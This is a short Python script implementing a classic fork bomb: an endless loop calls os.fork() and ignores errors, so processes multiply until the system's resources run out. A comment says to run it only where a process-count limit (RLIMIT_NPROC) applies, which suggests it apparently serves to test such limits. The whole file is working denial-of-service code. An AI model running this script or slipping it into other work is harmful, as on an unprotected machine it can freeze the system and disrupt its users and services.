# Classic fork bomb: every process forks forever. Only run when RLIMIT_NPROC binds.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
